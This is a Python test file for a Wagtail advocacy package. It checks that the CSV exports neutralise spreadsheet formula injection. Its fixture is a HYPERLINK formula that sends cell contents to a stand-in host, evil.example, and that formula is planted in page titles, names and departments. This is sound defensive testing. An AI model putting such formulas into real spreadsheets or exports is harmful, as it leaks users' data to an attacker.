"""No CSV the package writes turns user text into a live spreadsheet formula."""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse

from tests import factories
from wagtail_advocacy import kpis
from wagtail_advocacy.core.exports import csv_writer, neutralise

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


def rows_of(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def cells(rows):
    return [cell for row in rows[1:] for cell in row]


def assert_no_formula(rows):
    for cell in cells(rows):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell)  # only a number may start with a minus sign


@pytest.mark.parametrize(
    "value, expected",
    [
        (EVIL, "'" + EVIL),
        ("+33 call me", "'+33 call me"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rReturn", "'\rReturn"),
        ("plain = text", "plain = text"),
        ("", ""),
        ("-12.50", "-12.50"),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (-0.25, -0.25),
        (None, None),
    ],
)
def test_neutralise_only_formula_looking_strings(value, expected):
    assert neutralise(value) == expected


@pytest.fixture
def hostile(make_page, django_user_model):
    campaign = factories.campaign(name="+Campaign " + EVIL)
    page = make_page(title=EVIL, campaign=campaign)
    user = factories.user("mallory", first_name="Mallory")
    factories.ambassador(
        user, display_name="@" + EVIL, department="-" + EVIL, show_on_leaderboards=True
    )
    link = factories.share(user, page).link
    factories.click(link)
    return {"page": page, "campaign": campaign, "user": user}


@pytest.mark.parametrize(
    "report", ["content_report", "ambassador_report", "network_report", "campaign_report"]
)
def test_kpi_report_exports_neutralise_formulas(admin_client_, hostile, report):
    url = reverse(f"wagtail_advocacy_admin:{report}")
    rows = rows_of(admin_client_.get(url, {"export": "csv"}))
    assert len(rows) > 1
    assert_no_formula(rows)


def test_content_report_export_keeps_the_text_readable(admin_client_, hostile):
    url = reverse("wagtail_advocacy_admin:content_report")
    rows = rows_of(admin_client_.get(url, {"export": "csv"}))
    row = next(row for row in rows if EVIL in row[0])
    assert row[0] == "'" + EVIL
    assert row[1] == "'+Campaign " + EVIL


def test_ambassador_report_export_neutralises_names_and_departments(admin_client_, hostile):
    url = reverse("wagtail_advocacy_admin:ambassador_report")
    found = cells(rows_of(admin_client_.get(url, {"export": "csv"})))
    assert "'-" + EVIL in found
    assert any(cell.startswith("'@") for cell in found)


def test_training_completions_export_neutralises_formulas(admin_client_, root_page):
    module = factories.training_module(factories.training_index(root_page), title="-" + EVIL)
    user = factories.user("@mallory")
    factories.ambassador(user, department=EVIL)
    factories.pass_quiz(user, module)
    url = "/admin/wagtail_advocacy/trainingcompletion/"
    rows = rows_of(admin_client_.get(url, {"export": "csv"}))
    assert rows[1][:3] == ["'@mallory", "'-" + EVIL, "'" + EVIL]
    assert_no_formula(rows)
    statistics = rows_of(
        admin_client_.get(reverse("wagtail_advocacy_training:statistics"), {"export": "csv"})
    )
    assert statistics[1][0] == "'-" + EVIL
    assert statistics[1][1] == "1"  # numbers stay numbers


def test_export_command_neutralises_formulas_and_keeps_numbers(db, monkeypatch):
    monkeypatch.setattr(
        kpis,
        "summary",
        lambda period, filters: {"name": EVIL, "delta": -3, "conversions_by_kind": {}},
    )
    out = io.StringIO()
    call_command("advocacy_export_kpis", "--from=2026-03-01", "--to=2026-03-31", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[1][:2] == ["name", "'" + EVIL]
    assert rows[2][:2] == ["delta", "-3"]


def test_csv_writer_neutralises_every_cell():
    out = io.StringIO()
    csv_writer(out).writerow(["=1+1", -1, "ok"])
    assert out.getvalue().strip() == "'=1+1,-1,ok"
